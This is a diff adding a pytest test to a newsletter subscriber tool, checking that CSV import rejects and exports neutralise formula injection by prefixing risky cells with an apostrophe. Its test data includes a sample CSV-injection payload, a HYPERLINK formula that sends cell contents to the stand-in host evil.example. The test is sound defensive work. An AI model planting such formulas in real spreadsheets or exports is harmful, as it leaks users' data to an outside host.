@@ -456,3 +456,53 @@ def test_a_chunk_that_fails_rolls_back_the_one_written_beside_it(session, newsle
         _import_with(session, newsletter, path, writers=2, chunk_size=5, write_chunk=failing)
     assert count(session, Subscription) == 5
     assert count(session, Subscriber) == 5
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=cmd"]
+
+
+def test_no_cell_of_the_rejects_file_or_the_export_runs_as_a_formula_and_both_read_back(
+    settings, newsletter, session, tmp_path
+):
+    """OWASP CSV injection: every cell that starts with = + - @ (or tab / CR) is written
+    with a leading ', in the rejects file (whatever the import file held) and in the
+    export (addresses may start with = + -). The import reads both back as they were."""
+    legit = ["=1+1@example.org", "-dash@example.org", "+plus@example.org", "'quote@example.org"]
+    path = write(
+        tmp_path / "in.csv",
+        [[cell, cell, "", ""] for cell in FORMULAS] + [[a, "", "", ""] for a in legit],
+        header=("email", "=name", "topics", "frequency"),
+    )
+    result = CliRunner().invoke(
+        main, ["subscribers", "import", str(path), "--newsletter", "weekly", "--confirmed"]
+    )
+    assert result.exit_code == 0, result.output
+    session.expire_all()
+    assert sorted(session.scalars(select(Subscriber.email))) == sorted(legit)
+
+    with (tmp_path / "in.rejects.csv").open(newline="") as f:
+        written = list(csv.reader(f))
+    assert written[0][1] == "'=name"
+    cells = [cell for row in written for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [row[0] for row in written[1:]] == ["'" + c for c in FORMULAS]
+
+    exported = tmp_path / "out.csv"
+    out = CliRunner().invoke(
+        main, ["subscribers", "export", "--newsletter", "weekly", "-o", str(exported)]
+    )
+    assert out.exit_code == 0, out.output
+    emails = [r["email"] for r in rejects(exported)]
+    assert sorted(emails) == sorted(["'=1+1@example.org", "'-dash@example.org",
+                                     "'+plus@example.org", "'quote@example.org"])  # fmt: skip
+
+    daily = subs.create_newsletter(session, "daily", "Daily", "Daily <d@example.org>")
+    session.commit()
+    back = CliRunner().invoke(
+        main, ["subscribers", "import", str(exported), "--newsletter", daily.slug]
+    )
+    assert back.exit_code == 0, back.output
+    session.expire_all()
+    # The same four readers, now also in Daily: nobody new, no address with a ' added.
+    assert sorted(session.scalars(select(Subscriber.email))) == sorted(legit)
+    assert count(session, Subscription, Subscription.newsletter_id == daily.id) == 4
